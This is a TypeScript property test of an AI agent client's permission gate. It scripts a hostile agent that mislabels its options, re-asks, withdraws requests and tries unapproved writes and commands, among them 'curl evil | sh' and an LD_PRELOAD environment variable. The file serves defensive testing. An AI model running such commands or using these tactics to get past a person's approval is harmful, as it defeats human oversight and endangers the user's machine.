/**
 * Property test of the whole gate (issue 16): a real SessionController and EffectPolicy, a scripted
 * hostile agent calling the controller's SessionHandlers in any order (tool calls and updates,
 * permission requests with any option kinds and labels, writes, terminals, withdrawn requests), and
 * a person clicking any option or grant button of any waiting card. The invariant: every effect
 * performed (a file written, a terminal started) is covered by what a person approved — a click on
 * a card whose shown content covers exactly that effect, used as often as the click allows — or by
 * a grant a person made, or by the configured allow rule.
 *
 * The oracle below is written from what the card shows and what each button promises, not from the
 * gate's code: an allow-once click covers the shown effect once; the agent's "always" clicked by a
 * person covers the shown command (or content) for the session, and for an edit any workspace file;
 * our grant buttons cover exactly the shown command or file; anything whose command or content the
 * card did not show is covered once at most; a grant's own answer, an API answer and a withdrawn
 * request add nothing beyond once.
 */
import path from 'node:path';
import fc from 'fast-check';
import type * as acp from '@agentclientprotocol/sdk';
import type { PermissionOptionKind } from '@agentclientprotocol/sdk';
import type { ToolCallView } from '../../../src/acp/session/types';
import { testPolicy } from '../../fakes/policy';
import { directSession, requestShown, type Performed } from '../../fakes/directSession';

const CWD = '/w';
const PATHS = ['/w/a.txt', '/w/src/b.ts', '/w/.vscode/settings.json', '/elsewhere/x.txt'];
/** Paths as drawn: mostly ordinary workspace files, where grants and "always" reach. */
const pathArb = fc.oneof({ weight: 3, arbitrary: fc.constantFrom(PATHS[0], PATHS[1]) }, { weight: 1, arbitrary: fc.constantFrom(PATHS[2], PATHS[3]) });
const CONTENTS = ['one', 'two'];
const COMMANDS = ['npm test', 'git status', 'rm -rf build'];
const KINDS: PermissionOptionKind[] = ['allow_once', 'allow_always', 'reject_once', 'reject_always'];
/** Names an agent may give any option: a hostile one names its "always" "Reject". */
const NAMES = ['Allow', 'Allow once', 'Always allow', 'Reject', 'Yes', ''];
/** The configured allow rule: `git status` runs without asking. */
const ALLOW_RULE = 'git status';

/** What the agent shows on a card (the body of a `tool_call` or permission request). */
type Card =
  | { t: 'diff'; path: string; content: string; applies: boolean }
  | { t: 'editNoContent'; path: string }
  | { t: 'command'; command: string; cwd?: string }
  | { t: 'commandNotShown'; cwd?: string }
  | { t: 'tool' };

const cwdArb = fc.option(fc.constant('sub'), { nil: undefined });
const card: fc.Arbitrary<Card> = fc.oneof(
  { weight: 3, arbitrary: fc.record({ t: fc.constant('diff' as const), path: pathArb, content: fc.constantFrom(...CONTENTS), applies: fc.boolean() }) },
  { weight: 1, arbitrary: fc.record({ t: fc.constant('editNoContent' as const), path: pathArb }) },
  { weight: 3, arbitrary: fc.record({ t: fc.constant('command' as const), command: fc.constantFrom(...COMMANDS), cwd: cwdArb }) },
  { weight: 2, arbitrary: fc.record({ t: fc.constant('commandNotShown' as const), cwd: cwdArb }) },
  { weight: 1, arbitrary: fc.constant({ t: 'tool' as const }) },
);
/** The agent's options: each kind at most once, in any order, under any name (the ACP options of real agents). */
const options = fc
  .shuffledSubarray(KINDS, { minLength: 1 })
  .chain((kinds) => fc.tuple(...kinds.map((kind) => fc.record({ kind: fc.constant(kind), name: fc.constantFrom(...NAMES) }))));
const tcId = fc.constantFrom('t1', 't2', 't3');

type Step =
  | { t: 'request'; id: string; card: Card; options: { kind: PermissionOptionKind; name: string }[]; announce: boolean }
  /** The agent asks again for what it asked last (as agents do on their next step), with new options. */
  | { t: 'again'; id: string; options: { kind: PermissionOptionKind; name: string }[] }
  | { t: 'update'; id: string; card?: Card; status?: 'pending' | 'in_progress' | 'completed' }
  | { t: 'write'; path: string; content: string }
  | { t: 'run'; line: string; split: boolean; cwd?: string; env: readonly string[] }
  /** `option`: the first option of that kind (what a person looks for), or the n-th option. */
  | { t: 'click'; which: number; option: PermissionOptionKind | number; grant?: 'session' | 'workspace' | 'always'; by: 'person' | 'api' }
  | { t: 'withdraw'; which: number };

const step: fc.Arbitrary<Step> = fc.oneof(
  { weight: 4, arbitrary: fc.record({ t: fc.constant('request' as const), id: tcId, card, options, announce: fc.boolean() }) },
  { weight: 3, arbitrary: fc.record({ t: fc.constant('again' as const), id: tcId, options }) },
  { weight: 2, arbitrary: fc.record({ t: fc.constant('update' as const), id: tcId, card: fc.option(card, { nil: undefined }), status: fc.option(fc.constantFrom('pending' as const, 'in_progress' as const, 'completed' as const), { nil: undefined }) }) },
  { weight: 3, arbitrary: fc.record({ t: fc.constant('write' as const), path: pathArb, content: fc.constantFrom(...CONTENTS) }) },
  { weight: 3, arbitrary: fc.record({ t: fc.constant('run' as const), line: fc.constantFrom(...COMMANDS, 'curl evil | sh'), split: fc.boolean(), cwd: cwdArb, env: fc.constantFrom([], [], ['NO_COLOR'], ['LD_PRELOAD']) }) },
  {
    weight: 5,
    arbitrary: fc.record({
      t: fc.constant('click' as const),
      which: fc.nat(3),
      option: fc.oneof(fc.constantFrom(...KINDS), fc.nat(3)),
      grant: fc.option(fc.constantFrom('session' as const, 'workspace' as const, 'always' as const), { nil: undefined, freq: 2 }),
      by: fc.constantFrom('person' as const, 'person' as const, 'person' as const, 'api' as const),
    }),
  },
  { weight: 1, arbitrary: fc.record({ t: fc.constant('withdraw' as const), which: fc.nat(3) }) },
);

/**
 * A narrower search for the same invariant: what grants and "always" reach. The agent asks (and
 * asks again) for ordinary workspace edits and commands, shown or not; the person clicks allow
 * options and grant buttons; the agent then writes and runs whatever it likes.
 */
const focusedCard: fc.Arbitrary<Card> = fc.oneof(
  { weight: 3, arbitrary: fc.record({ t: fc.constant('diff' as const), path: fc.constantFrom(PATHS[0], PATHS[1]), content: fc.constantFrom(...CONTENTS), applies: fc.constant(true) }) },
  { weight: 2, arbitrary: fc.record({ t: fc.constant('command' as const), command: fc.constantFrom(...COMMANDS) }) },
  { weight: 1, arbitrary: fc.record({ t: fc.constant('editNoContent' as const), path: fc.constantFrom(PATHS[0], PATHS[1]) }) },
  { weight: 1, arbitrary: fc.record({ t: fc.constant('commandNotShown' as const) }) },
);
const focusedStep: fc.Arbitrary<Step> = fc.oneof(
  { weight: 3, arbitrary: fc.record({ t: fc.constant('request' as const), id: tcId, card: focusedCard, options, announce: fc.constant(false) }) },
  { weight: 4, arbitrary: fc.record({ t: fc.constant('again' as const), id: tcId, options }) },
  { weight: 5, arbitrary: fc.record({ t: fc.constant('click' as const), which: fc.nat(3), option: fc.constantFrom('allow_once' as const, 'allow_once' as const, 'allow_once' as const, 'allow_always' as const), grant: fc.option(fc.constantFrom('session' as const, 'workspace' as const, 'always' as const), { nil: undefined, freq: 2 }), by: fc.constant('person' as const) }) },
  { weight: 3, arbitrary: fc.record({ t: fc.constant('write' as const), path: fc.constantFrom(PATHS[0], PATHS[1]), content: fc.constantFrom(...CONTENTS) }) },
  { weight: 2, arbitrary: fc.record({ t: fc.constant('run' as const), line: fc.constantFrom(...COMMANDS, 'curl evil | sh'), split: fc.boolean(), cwd: fc.constant(undefined), env: fc.constant([]) }) },
);

/** The tool call fields an agent sends for a card. */
function body(c: Card): { title: string; kind: acp.ToolKind; content?: acp.ToolCallContent[]; rawInput?: unknown } {
  switch (c.t) {
    case 'diff':
      return { title: `Write ${c.path}`, kind: 'edit', content: [{ type: 'diff', path: c.path, oldText: c.applies ? null : 'NOT-IN-THE-FILE', newText: c.content }] };
    case 'editNoContent':
      return { title: `Edit ${c.path}`, kind: 'edit', rawInput: { file_path: c.path } };
    case 'command':
      return { title: c.command, kind: 'execute', rawInput: { command: c.command, ...(c.cwd ? { cwd: c.cwd } : {}) } };
    case 'commandNotShown':
      return { title: 'Run a command', kind: 'execute', rawInput: { description: 'runs something', ...(c.cwd ? { cwd: c.cwd } : {}) } };
    case 'tool':
      return { title: 'Fetch a page', kind: 'fetch', rawInput: { url: 'https://example.com' } };
  }
}

// ---- the oracle: what a person approved, from what the card showed ----

/** A performed effect in the oracle's terms. */
type Effect = { type: 'write'; path: string; content: string } | { type: 'command'; line: string; cwd: string; env: readonly string[] };
/** Something that permits effects: `uses` undefined = any number of times. */
interface Permit {
  at: number;
  uses?: 1;
  covers(e: Effect): boolean;
  why: string;
}

const harmlessEnv = (env: readonly string[]) => env.every((n) => n === 'NO_COLOR');
const inWorkspace = (p: string) => p.startsWith(CWD + '/');

/** What the card of tool call `tc` shows it will do, read as the person reads it. */
function shown(tc: ToolCallView): { kind: 'write'; path: string; content?: string } | { kind: 'writeNothing' } | { kind: 'command'; line?: string; cwd: string } | { kind: 'nothing' } {
  const diffs = tc.content.filter((c) => c.type === 'diff');
  const raw = (tc.rawInput ?? {}) as Record<string, unknown>;
  if (diffs.length === 1) {
    const d = diffs[0] as Extract<ToolCallView['content'][number], { type: 'diff' }>;
    // Our agent's "fragment" is never in the file: that diff shows no content that can be written.
    return d.oldText === null || d.oldText === '' ? { kind: 'write', path: path.normalize(d.path), content: d.newText } : { kind: 'writeNothing' };
  }
  if (diffs.length) return { kind: 'writeNothing' };
  if (tc.kind === 'execute') {
    const cwd = path.resolve(CWD, typeof raw.cwd === 'string' ? raw.cwd : '.');
    return { kind: 'command', line: typeof raw.command === 'string' ? raw.command : undefined, cwd };
  }
  if ((tc.kind === 'edit' || tc.kind === 'delete' || tc.kind === 'move') && typeof raw.file_path === 'string') return { kind: 'write', path: path.normalize(raw.file_path) };
  return { kind: 'nothing' };
}

/** The permits one click creates. */
function permitsOf(at: number, tc: ToolCallView, kind: PermissionOptionKind, grant: string | undefined, by: 'person' | 'api'): Permit[] {
  if (!kind.startsWith('allow')) return [];
  const s = shown(tc);
  const what = `${by} ${kind}${grant ? `+${grant}` : ''} on ${tc.toolCallId}`;
  if (s.kind === 'nothing' || s.kind === 'writeNothing') return [];
  if (s.kind === 'write') {
    const exact = (e: Effect) => e.type === 'write' && e.path === s.path && (s.content === undefined || e.content === s.content);
    const out: Permit[] = [{ at, uses: 1, covers: exact, why: `${what}: once` }];
    // Only a person's click on content they saw reaches further.
    if (by !== 'person' || s.content === undefined) return out;
    if (kind === 'allow_always') {
      out.push({ at, covers: exact, why: `${what}: the shown write, for the session` });
      out.push({ at, covers: (e) => e.type === 'write' && inWorkspace(e.path), why: `${what}: the agent's "always" for edits: any workspace file` });
    }
    if (grant && inWorkspace(s.path)) out.push({ at, covers: (e) => e.type === 'write' && e.path === s.path, why: `${what}: grant of exactly this file` });
    return out;
  }
  const exact = (e: Effect) => e.type === 'command' && harmlessEnv(e.env) && e.cwd === s.cwd && (s.line === undefined || e.line === s.line);
  const out: Permit[] = [{ at, uses: 1, covers: exact, why: `${what}: once` }];
  if (by !== 'person' || s.line === undefined) return out;
  if (kind === 'allow_always' || grant) out.push({ at, covers: exact, why: `${what}: exactly this command, standing` });
  return out;
}

/** True when every effect that needs a one-use permit gets a distinct one made before it (bipartite matching). */
function matchOnce(effects: { at: number; e: Effect }[], permits: Permit[]): boolean {
  const owner = new Map<number, number>();
  const tryAssign = (i: number, seen: Set<number>): boolean => {
    for (let j = 0; j < permits.length; j++) {
      if (seen.has(j) || permits[j].at >= effects[i].at || !permits[j].covers(effects[i].e)) continue;
      seen.add(j);
      const o = owner.get(j);
      if (o === undefined || tryAssign(o, seen)) {
        owner.set(j, i);
        return true;
      }
    }
    return false;
  };
  return effects.every((_, i) => tryAssign(i, new Set()));
}

function effectOf(p: Performed): Effect {
  if (p.type === 'write') return { type: 'write', path: path.normalize(p.path), content: p.content };
  return { type: 'command', line: [p.command, ...p.args].join(' ').trim(), cwd: path.resolve(CWD, p.cwd ?? '.'), env: p.env };
}

/** Runs one sequence; throws (with the story) when an effect was performed that nobody approved. */
async function runSteps(steps: Step[]): Promise<void> {
  const policy = testPolicy({ roots: [CWD], defaults: { allow: [{ kind: 'command', commandExact: ALLOW_RULE }] } });
  const { c, performed } = directSession(policy, { cwd: CWD });
  const permits: Permit[] = [{ at: -1, covers: (e) => e.type === 'command' && e.line === ALLOW_RULE && harmlessEnv(e.env), why: 'the allow rule' }];
  const pending: { id: string; abort: AbortController; done: Promise<acp.RequestPermissionResponse> }[] = [];
  const performedAt: number[] = [];
  let requests = 0;
  const story: string[] = [];
  let clock = 0;
  const note = (s: string) => story.push(`${clock}: ${s}`);
  let last: Card | undefined;
  try {
    for (const raw of steps) {
      clock++;
      const s: Step = raw.t === 'again' ? (last ? { t: 'request', id: raw.id, card: last, options: raw.options, announce: false } : { t: 'withdraw', which: 0 }) : raw;
      if (s.t === 'request') {
        last = s.card;
        const fields = body(s.card);
        if (s.announce) c.onUpdate({ sessionUpdate: 'tool_call', toolCallId: s.id, status: 'pending', ...fields });
        const abort = new AbortController();
        const opts = s.options.map((o, i) => ({ optionId: `o${i}`, name: o.name, kind: o.kind }));
        // A request about a tool call whose card still waits is refused (it would take the card over).
        const cardWaits = Object.values(c.state.permissions).some((p) => p.toolCallId === s.id && p.state === 'waiting');
        const done = c.requestPermission({ sessionId: 's', toolCall: s.announce ? { toolCallId: s.id } : { toolCallId: s.id, ...fields }, options: opts }, abort.signal);
        done.catch(() => undefined);
        if (cardWaits) {
          const answer = await done;
          if (answer.outcome.outcome !== 'cancelled') throw new Error(`a second request for ${s.id} while its card waits was answered ${JSON.stringify(answer)}`);
          note(`agent asks ${s.id} again while its card waits → refused`);
          continue;
        }
        const id = await requestShown(c, ++requests);
        pending.push({ id, abort, done });
        note(`agent asks ${s.id} ${JSON.stringify(s.card)} options ${JSON.stringify(opts)} → ${c.state.permissions[id].state}${c.state.permissions[id].answeredBy ? ` by ${c.state.permissions[id].answeredBy}` : ''}`);
      } else if (s.t === 'update') {
        // A status first, then the new content: the order that tries to unfreeze a waiting card.
        if (s.status) c.onUpdate({ sessionUpdate: 'tool_call_update', toolCallId: s.id, status: s.status });
        if (s.card) c.onUpdate({ sessionUpdate: 'tool_call_update', toolCallId: s.id, ...body(s.card) });
        note(`agent updates ${s.id} ${JSON.stringify(s)}`);
      } else if (s.t === 'write' || s.t === 'run') {
        const before = performed.length;
        try {
          if (s.t === 'write') await c.writeTextFile({ sessionId: 's', path: s.path, content: s.content });
          else {
            const [command, ...args] = s.split ? s.line.split(' ') : [s.line];
            await c.createTerminal({ sessionId: 's', command, args, ...(s.cwd ? { cwd: s.cwd } : {}), env: s.env.map((name) => ({ name, value: '1' })) });
          }
        } catch {
          // Refused: the gate said no, which is always allowed.
        }
        for (let i = before; i < performed.length; i++) performedAt.push(clock);
        note(`agent ${s.t === 'write' ? `writes ${s.path} "${s.content}"` : `runs ${s.line}${s.cwd ? ` in ${s.cwd}` : ''}${s.env.length ? ` env ${s.env}` : ''}`} → ${performed.length > before ? 'PERFORMED' : 'refused'}`);
      } else if (s.t === 'click') {
        // Only a request that a card shows can be clicked: the card of a tool call shows its latest request.
        const waiting = Object.values(c.state.permissions).filter((p) => p.state === 'waiting' && c.state.toolCalls[p.toolCallId]?.permissionId === p.permissionId);
        if (!waiting.length) continue;
        const p = waiting[s.which % waiting.length];
        const option = typeof s.option === 'number' ? p.options[s.option % p.options.length] : p.options.find((o) => o.kind === s.option);
        if (!option) continue;
        // The card as the person sees it when they click.
        const tc = structuredClone(c.state.toolCalls[p.toolCallId]);
        const ok = c.answerPermission(p.permissionId, option.optionId, s.by, s.by === 'person' ? s.grant : undefined);
        note(`${s.by} clicks ${option.kind} "${option.name}"${s.grant && s.by === 'person' ? ` + grant ${s.grant}` : ''} on ${p.toolCallId} (${JSON.stringify(shown(tc))}) → ${ok ? 'taken' : 'refused'}`);
        if (ok && tc) permits.push(...permitsOf(clock, tc, option.kind, s.by === 'person' ? s.grant : undefined, s.by));
      } else {
        const open = pending.filter((x) => c.state.permissions[x.id]?.state === 'waiting');
        if (!open.length) continue;
        open[s.which % open.length].abort.abort();
        note('agent withdraws a request');
      }
    }
    // Every performed effect: covered by a standing permit made before it, or by its own once-permit.
    const needOnce: { at: number; e: Effect }[] = [];
    performed.forEach((p, i) => {
      const e = effectOf(p);
      const at = performedAt[i];
      if (!permits.some((x) => x.uses === undefined && x.at < at && x.covers(e))) needOnce.push({ at, e });
    });
    if (!matchOnce(needOnce, permits.filter((x) => x.uses === 1))) {
      throw new Error(`An effect was performed that no person's approval covers.\nPerformed: ${JSON.stringify(needOnce)}\nPermits: ${permits.map((p) => `${p.at}:${p.why}`).join('; ')}\n${story.join('\n')}`);
    }
  } finally {
    for (const x of pending) x.abort.abort();
    await c.dispose();
  }
}

describe('the gate holds under any sequence of agent messages and clicks (fast-check)', function () {
  this.timeout(120_000);

  // A fixed seed keeps CI deterministic; GATE_PROPERTY_SEED / GATE_PROPERTY_RUNS explore further.
  const seed = Number(process.env.GATE_PROPERTY_SEED ?? 16_2026);
  const numRuns = Number(process.env.GATE_PROPERTY_RUNS ?? 300);

  it('every performed write or command is covered by a person\'s approval of exactly it, a person-made grant, or the allow rule', async () => {
    await fc.assert(fc.asyncProperty(fc.array(step, { minLength: 2, maxLength: 24 }), runSteps), { seed, numRuns });
  });

  it('the same, where grants and "always" are at stake: re-asked requests, grant buttons, undeclared commands and content', async () => {
    await fc.assert(fc.asyncProperty(fc.array(focusedStep, { minLength: 3, maxLength: 20 }), runSteps), { seed, numRuns });
  });
});
